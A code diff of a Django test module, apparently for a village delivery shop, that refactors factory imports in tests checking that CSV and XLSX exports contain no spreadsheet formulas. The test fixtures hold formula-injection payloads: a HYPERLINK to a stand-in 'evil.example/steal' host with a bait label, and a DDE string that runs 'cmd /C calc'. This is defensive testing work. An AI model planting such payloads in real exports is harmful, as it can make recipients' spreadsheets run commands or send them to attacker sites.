@@ -15,10 +15,10 @@ from content import impact
 from fulfilment import runs
 from fulfilment.models import DeliveryRun
 from shop.desk import exports as report_exports
-from tests import factories
+from tests.catalogue.factories import HouseholdFactory, VillageFactory, product_in_stock
 from tests.dashboard.factories import coordinator
-from tests.dashboard.factories import place_order as place_plain_order
-from tests.fulfilment.factories import place_order
+from tests.order.factories import make_order
+from tests.partner.factories import UserFactory, team_member
 
 NAME = '=HYPERLINK("http://evil.example/steal","点我领红包")'
 TITLE = "+1+cmd|' /C calc'!A0"
@@ -58,13 +58,13 @@ def hostile_run(run, pickup_point, team):
 
     pickup_point.name = POINT
     pickup_point.save()
-    product = factories.product_in_stock(team=team, title=TITLE, stock=100)
-    village = factories.VillageFactory(slug="xiangyang", name="向阳村")
-    household = factories.HouseholdFactory(
+    product = product_in_stock(team=team, title=TITLE, stock=100)
+    village = VillageFactory(slug="xiangyang", name="向阳村")
+    household = HouseholdFactory(
         team=team, village=village, public_name=HOUSEHOLD, latitude=D("34.8"), longitude=D("113.5")
     )
     supply.set_commitment(run, household, product, 30)
-    place_order(run, [(product, 5)], email="evil@example.cn", name=NAME)
+    make_order(run, [(product, 5)], email="evil@example.cn", name=NAME)
     runs.change_status(run, DeliveryRun.Status.CLOSED)
     return run
 
@@ -79,7 +79,7 @@ def hostile_run(run, pickup_point, team):
     ],
 )
 def test_run_lists_as_xlsx_hold_no_formula(client, hostile_run, team, kind, texts):
-    client.force_login(factories.team_member(team))
+    client.force_login(team_member(team))
     response = client.get(f"/shop/team/runs/{hostile_run.pk}/lists/{kind}/?format=xlsx")
     assert response.status_code == 200
     assert_no_formula(xlsx_cells(response.content), texts)
@@ -87,11 +87,11 @@ def test_run_lists_as_xlsx_hold_no_formula(client, hostile_run, team, kind, text
 
 @pytest.mark.django_db
 def test_dashboard_order_csv_holds_no_formula(client, team):
-    product = factories.product_in_stock(team=team, title=TITLE)
-    order = place_plain_order([(product, 2)], guest_email="evil@example.cn")
+    product = product_in_stock(team=team, title=TITLE)
+    order = make_order(None, [(product, 2)], email="evil@example.cn")
     order.shipping_address.first_name = NAME
     order.shipping_address.save()
-    for user in (coordinator(), factories.team_member(team)):
+    for user in (coordinator(), team_member(team)):
         client.force_login(user)
         response = client.get(reverse("dashboard:order-list") + "?response_format=csv")
         rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
@@ -101,7 +101,7 @@ def test_dashboard_order_csv_holds_no_formula(client, team):
 
 @pytest.mark.django_db
 def test_product_sheet_export_holds_no_formula_and_reads_back_unchanged(team):
-    product = factories.product_in_stock(team=team, title=TITLE, upc="=NZ1")
+    product = product_in_stock(team=team, title=TITLE, upc="=NZ1")
     exporter = ProductSheetExporter(team)
     cells = xlsx_cells(exporter.xlsx_bytes())
     assert_no_formula(cells, [TITLE, "=NZ1"])
@@ -150,9 +150,9 @@ def test_impact_csv_holds_no_formula():
 
 @pytest.mark.django_db
 def test_oscar_order_report_csv_holds_no_formula(client, team):
-    buyer = factories.UserFactory(username="evil", first_name=NAME)
-    product = factories.product_in_stock(team=team, title=TITLE)
-    place_plain_order([(product, 2)], user=buyer)
+    buyer = UserFactory(username="evil", first_name=NAME)
+    product = product_in_stock(team=team, title=TITLE)
+    make_order(None, [(product, 2)], user=buyer)
     client.force_login(coordinator())
     response = client.get(
         reverse("dashboard:reports-index"), {"report_type": "order_report", "download": "true"}
